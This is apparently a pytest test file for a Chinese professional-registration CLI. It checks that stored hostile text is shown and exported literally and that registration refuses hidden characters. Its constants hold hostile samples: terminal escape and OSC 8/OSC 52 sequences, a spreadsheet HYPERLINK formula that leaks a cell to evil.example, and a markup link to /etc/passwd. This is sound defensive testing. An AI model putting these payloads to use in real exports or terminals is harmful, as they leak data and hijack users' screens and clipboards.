"""Text from outside is data: what a hostile registrant or a careless desk types is refused
at the boundary when it hides characters, and shown, exported and printed literally when
it is already stored (rows written before the text policy, or straight into the database).

Every view and export command runs over one world holding such rows, on SQLite,
PostgreSQL and through `hnce serve`: each exits 0 or its documented code, shows the values
as typed (control characters escaped), lets no escape byte from data reach the terminal,
writes no spreadsheet formula and crashes after writing nothing.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import Person, World, error_fields, json_out, new_id_number

from hnce_cli.text import visible

YEAR = 2025

# Stored straight into the database: what the policy now refuses at the door, and what it
# lets through as ordinary characters (markup brackets, formula-looking text).
ESC_NAME = "E\x1b[2J\x1b[31mred"
OSC8_DEPARTMENT = "D\x1b]8;;http://evil.example/\x1b\\点我\x1b]8;;\x1b\\"
OSC52_SCHOOL = "S\x1b]52;c;ZXZpbA==\x07"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&C2,"点我")'
CR_NAME = "张\r覆盖"
MARKUP_NAME = "李[/]"
LINK_SCHOOL = "[link=file:///etc/passwd]y[/link]"
RED_UNIT = "钱[red]x[/red]单位"
ADMIN_NAME = "审[/]核\x1b[2J"
BIDI_NAME = "王\u202e五"
REVOKE_REASON = "撤销[/]\x1b[31m原因"

# What the policy refuses at registration, each with the character it names.
HIDDEN = {
    "esc": ESC_NAME, "cr": CR_NAME, "backspace": "王\x08五", "nul": "王\x00五", "bidi": BIDI_NAME,
    "zero-width": "王\u200b五", "c1": "王\x85五", "bom": "\ufeff王五", "isolate": "王\u2066五",
}
# Real names the policy keeps whole: CJK extensions A–G, a minority name's middle dot.
REAL_NAMES = ["王䶮", "李𬌗", "欧阳𫍯", "买买提·艾力"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Hostile:
    world: World
    pending: str  # id number of a pending registrant with escape codes in three fields
    formula: Person  # approved, passed, named like a spreadsheet formula
    broken: Person  # approved, passed, named with a carriage return (no certificate possible)
    markup: Person  # approved, passed, named and schooled with rich markup
    bidi: Person  # approved, passed, a bidi override in the name
    certificate_code: str  # a revoked certificate whose reason holds markup and an escape code
    folder: Path


def _rename(world: World, person_id: int, **columns: str) -> None:
    sets = ", ".join(f"{column} = :{column}" for column in columns)
    world.setup.execute(f"UPDATE professional SET {sets} WHERE id = :id", id=person_id, **columns)


@pytest.fixture
def hostile(world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Hostile:
    setup = world.setup
    pending = world.people_a[0]
    formula, broken, markup, bidi, revoked = (world.passed_person(YEAR) for _ in range(5))
    # a certificate issued while the name was ordinary, then revoked with a hostile reason
    issued = json_out(setup.run("certificate", "--year", str(YEAR), "--json", "-o", str(tmp_path / "r.pdf"),
                                token=revoked.token))["certificate"]
    done = setup.run("certificate", "revoke", issued["number"], "--reason", "学分记录有误", "--yes", "--json",
                     token=world.admin.token)
    assert done.returncode == 0, done.stdout + done.stderr
    setup.execute("UPDATE certificate SET revoke_reason = :r", r=REVOKE_REASON)
    _rename(world, pending.id, name=ESC_NAME, department=OSC8_DEPARTMENT, school=OSC52_SCHOOL)
    _rename(world, formula.id, name=FORMULA_NAME)
    _rename(world, broken.id, name=CR_NAME)
    _rename(world, markup.id, name=MARKUP_NAME, school=LINK_SCHOOL)
    _rename(world, bidi.id, name=BIDI_NAME)
    setup.execute("UPDATE unit SET name = :n WHERE id = :id", n=RED_UNIT, id=world.unit_b.id)
    setup.execute("UPDATE account SET name = :n WHERE id = :id", n=ADMIN_NAME, id=world.a_admin1.account_id)
    monkeypatch.chdir(tmp_path)
    return Hostile(world, pending.id_number, formula, broken, markup, bidi, issued["verification_code"], tmp_path)


@dataclass(frozen=True)
class Case:
    """One command over the hostile world: as whom, the exit codes its docs allow, what it
    must show literally, and the file it writes (checked for formulas)."""

    name: str
    argv: tuple[str, ...]
    who: str
    exits: tuple[int, ...] = (0,)
    shows: tuple[str, ...] = ()
    writes: str | None = None


CASES = [
    Case("approve list", ("approve", "--list"), "a_admin1", shows=(ESC_NAME,)),
    Case("approve list csv", ("approve", "--list", "--csv"), "a_admin1", shows=(ESC_NAME,)),
    Case("inbox", ("inbox",), "a_admin1", shows=(ESC_NAME,)),
    Case("status pending", ("status", "{pending}"), "kefu", shows=(ESC_NAME, OSC8_DEPARTMENT, OSC52_SCHOOL)),
    Case("status approved", ("status", "{formula}"), "kefu", shows=(FORMULA_NAME, ADMIN_NAME)),
    Case("status markup", ("status", "{markup}"), "kefu", shows=(MARKUP_NAME, LINK_SCHOOL)),
    Case("status bidi", ("status", "{bidi}"), "kefu", shows=(BIDI_NAME,)),
    Case("whoami", ("whoami",), "a_admin1", shows=(ADMIN_NAME,)),
    Case("unit search", ("unit", "search", "单位"), "kefu", shows=(RED_UNIT,)),
    Case("unit show", ("unit", "show", "{unit_b}"), "kefu", shows=(RED_UNIT,)),
    Case("completion person", ("completion", "{markup}", "--year", "2025"), "a_admin1", shows=(MARKUP_NAME,)),
    Case("completion list", ("completion", "--unit", "{unit_a}", "--year", "2025"), "a_admin1",
         shows=(FORMULA_NAME, CR_NAME, MARKUP_NAME, BIDI_NAME)),
    Case("completion list csv", ("completion", "--unit", "{unit_a}", "--year", "2025", "--csv"), "a_admin1",
         shows=(MARKUP_NAME,)),
    Case("completion -o csv", ("completion", "--unit", "{unit_a}", "--year", "2025", "-o", "list.csv"),
         "a_admin1", writes="list.csv"),
    Case("completion -o xlsx", ("completion", "--unit", "{unit_a}", "--year", "2025", "-o", "list.xlsx"),
         "a_admin1", writes="list.xlsx"),
    Case("sync export csv", ("sync", "export", "--year", "2025", "-o", "sync.csv"), "admin", writes="sync.csv"),
    Case("sync export xlsx", ("sync", "export", "--year", "2025", "-o", "sync.xlsx"), "admin", writes="sync.xlsx"),
    Case("verify revoked", ("certificate", "verify", "{code}"), "kefu", exits=(9,), shows=(REVOKE_REASON,)),
    Case("db check", ("db", "check"), "admin", exits=(7,), shows=(ESC_NAME, CR_NAME, ADMIN_NAME, BIDI_NAME)),
    Case("certificate batch", ("certificate", "batch", "--year", "2025", "--unit", "{unit_a}", "--out", "out"),
         "a_admin1", exits=(7,), writes="out/manifest.csv"),
]


def _squash(text: str) -> str:
    """Output without layout: a table may wrap a long value over lines."""
    return re.sub(r"\s+", "", text)


def _cells_of(path: Path) -> list[list[str]]:
    if path.suffix == ".xlsx":
        with zipfile.ZipFile(path) as book:
            sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
            for sheet in sheets:
                assert "<f>" not in book.read(sheet).decode(), f"a formula cell in {sheet}"
        from openpyxl import load_workbook

        workbook = load_workbook(path, read_only=True)
        sheet = workbook.worksheets[0]
        rows = [["" if c is None else str(c) for c in row] for row in sheet.iter_rows(values_only=True)]
        workbook.close()
        return rows
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _no_formula(rows: list[list[str]]) -> None:
    width = len(rows[0])
    for row in rows:
        assert len(row) == width, row  # CR and LF inside a cell are quoted: rows stay whole
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"a formula cell: {cell!r}"


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_text_is_shown_and_exported_as_data(hostile: Hostile, case: Case) -> None:
    world = hostile.world
    values = {"pending": hostile.pending, "formula": hostile.formula.id_number, "markup": hostile.markup.id_number,
              "bidi": hostile.bidi.id_number, "unit_a": str(world.unit_a.id), "unit_b": str(world.unit_b.id),
              "code": hostile.certificate_code}
    argv = [part.format(**values) for part in case.argv]
    token = getattr(world, case.who).token
    env = {"COLUMNS": "300", "HNCE_CERT_FONT_CACHE": str(hostile.folder / "fonts")}
    proc = world.setup.run(*argv, token=token, env=env, timeout=300)
    output = proc.stdout + proc.stderr
    assert proc.returncode in case.exits, (argv, proc.returncode, output[-3000:])
    assert "\x1b" not in output, "an escape byte from data reached the terminal"
    assert "Traceback" not in output
    shown = _squash(output)
    for value in case.shows:
        assert _squash(visible(value)) in shown, (value, output[-3000:])
    if "--csv" in argv:
        _no_formula(list(csv.reader(io.StringIO(proc.stdout, newline=""))))
    if case.writes:
        _no_formula(_cells_of(hostile.folder / case.writes))


def test_a_batch_with_one_unprintable_name_makes_everyone_elses_certificates(hostile: Hostile) -> None:
    """A carriage return or a bidi override cannot go on an official document: those people fail,
    named in the manifest with the reason; every other passed person of the unit gets a PDF
    (the revoked one excepted)."""
    world = hostile.world
    proc = world.setup.run("certificate", "batch", "--year", str(YEAR), "--unit", str(world.unit_a.id),
                           "--out", "out", "--json", token=world.a_admin1.token,
                           env={"HNCE_CERT_FONT_CACHE": str(hostile.folder / "fonts")}, timeout=300)
    assert proc.returncode == 7, proc.stdout[-2000:] + proc.stderr[-2000:]
    with (hostile.folder / "out" / "manifest.csv").open(encoding="utf-8-sig", newline="") as manifest:
        rows = list(csv.DictReader(manifest))
    failed = {r["name"] for r in rows if r["status"] == "failed"}
    assert failed == {CR_NAME, BIDI_NAME}, rows  # hidden characters never go on an official document
    pdfs = sorted(p.name for p in (hostile.folder / "out").rglob("*.pdf"))
    assert len(pdfs) == 2 and any("李[" in name for name in pdfs), pdfs  # the formula and markup names


@pytest.mark.parametrize("kind", sorted(HIDDEN))
def test_registration_refuses_hidden_characters(world: World, kind: str) -> None:
    """Through the command line (and through the API in remote mode) a name hiding
    characters is refused with the field named; nothing is written."""
    before = world.setup.count("professional")
    proc = world.setup.run("register", "--id-number", new_id_number(), "--name", HIDDEN[kind], "--gender", "男",
                           "--mobile", "13800138000", "--email", "a@example.cn", "--unit", str(world.unit_a.id),
                           "--password-stdin", "--json", input=world.password + "\n")
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "name" in error_fields(proc)
    assert "控制字符" in json_out(proc)["error"]["problems"][0]["message"]
    assert world.setup.count("professional") == before


@pytest.mark.parametrize("name", REAL_NAMES)
def test_real_names_are_kept_whole(world: World, name: str) -> None:
    person = world.register(name=name)
    assert person.name == name
    assert world.setup.scalar("SELECT name FROM professional WHERE id = :id", id=person.id) == name


def test_markup_in_a_new_registration_is_stored_and_shown_as_typed(world: World) -> None:
    """Brackets are ordinary characters: `李[/]` registers (it used to crash the registrant's own
    command and then the unit admin's list) and shows as typed."""
    person = world.register(name=MARKUP_NAME, school=LINK_SCHOOL)
    listing = world.setup.run("approve", "--list", token=world.a_admin1.token, env={"COLUMNS": "300"})
    assert listing.returncode == 0, listing.stderr
    assert MARKUP_NAME in listing.stdout
    shown = world.setup.run("status", person.id_number, token=world.kefu.token, env={"COLUMNS": "300"})
    assert shown.returncode == 0 and LINK_SCHOOL in _squash(shown.stdout), shown.stdout


def test_a_reason_with_an_escape_code_is_refused(world: World) -> None:
    pending = world.people_a[1]
    proc = world.setup.run("approve", pending.id_number, "--reject", "--reason", "信息\x1b[2J不全", "--yes", "--json",
                           token=world.a_admin1.token)
    assert proc.returncode == 2 and "reason" in error_fields(proc), proc.stdout
    assert world.setup.scalar("SELECT status FROM professional WHERE id = :id", id=pending.id) == "pending"


def test_a_unit_named_with_a_digit_that_is_not_ascii_is_not_a_crash(world: World) -> None:
    for value in ("²", "³"):
        shown = world.setup.run("unit", "show", value, "--json", token=world.kefu.token)
        assert shown.returncode == 3, shown.stdout + shown.stderr


def test_a_long_search_is_refused_before_the_database(world: World) -> None:
    proc = world.setup.run("unit", "search", "会" * 40_000, "--json", token=world.kefu.token)
    assert proc.returncode == 2 and "query" in error_fields(proc), proc.stdout[:500]


def test_every_free_text_field_refuses_hidden_characters(world: World, tmp_path: Path) -> None:
    """Units, admin accounts, attachment names and revoke reasons are held to the same policy
    as a registration: the field named, nothing written."""
    from conftest import make_uscc

    setup, admin = world.setup, world.admin.token
    units = setup.count("unit")
    unit = setup.run("unit", "add", "--name", "郑州\x1b[2J事务所", "--uscc", make_uscc("410105", "MA44HHHH1"),
                     "--region", "金水区", "--json", token=admin)
    assert unit.returncode == 2 and error_fields(unit) == ["name"], unit.stdout
    assert setup.count("unit") == units
    account = setup.run("account", "add", "--login", "kefu9", "--name", "客服\u202e九", "--role", "support",
                        "--password-stdin", "--json", token=admin, input=world.password + "\n")
    assert account.returncode == 2 and "name" in error_fields(account), account.stdout
    me = world.passed_person(YEAR)
    pdf = tmp_path / "证明\x1b[31m.pdf"
    pdf.write_bytes(b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
    declared = setup.run("declare", "new", "--form", "学术会议", "--field", "meeting_name=年会", "--field",
                         "organizer=学会", "--field", "start_date=2025-06-01", "--field", "days=1",
                         "--attach", str(pdf), "--json", token=me.token)
    assert declared.returncode == 2 and any("attachments" in f for f in error_fields(declared)), declared.stdout
    assert setup.count("declaration") == 0
    issued = json_out(setup.run("certificate", "--year", str(YEAR), "--json", "-o", str(tmp_path / "c.pdf"),
                                token=me.token))["certificate"]
    revoke = setup.run("certificate", "revoke", issued["number"], "--reason", "错误\x1b[2J", "--yes", "--json",
                       token=admin)
    assert revoke.returncode == 2 and error_fields(revoke) == ["reason"], revoke.stdout
    assert setup.scalar("SELECT revoked_at FROM certificate WHERE number = :n", n=issued["number"]) is None


def test_db_check_on_a_clean_database_exits_0(world: World) -> None:
    proc = world.setup.run("db", "check", "--json", token=world.admin.token)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    result = json_out(proc)
    assert result["found"] == 0 and result["findings"] == [] and result["checked"] > 0
    refused = world.setup.run("db", "check", "--json", token=world.kefu.token)
    assert refused.returncode == 4


def test_db_check_lists_each_hostile_row_with_its_field(hostile: Hostile) -> None:
    world = hostile.world
    proc = world.setup.run("db", "check", "--json", token=world.admin.token)
    assert proc.returncode == 7, proc.stdout + proc.stderr
    found = {(f["table"], f["field"], f["value"]) for f in json_out(proc)["findings"]}
    assert ("professional", "name", visible(ESC_NAME)) in found
    assert ("professional", "department", visible(OSC8_DEPARTMENT)) in found
    assert ("professional", "name", visible(BIDI_NAME)) in found
    assert ("account", "name", visible(ADMIN_NAME)) in found
    assert ("certificate", "revoke_reason", visible(REVOKE_REASON)) in found
    assert not any(value in (MARKUP_NAME, FORMULA_NAME) for _, _, value in found)  # data, not faults
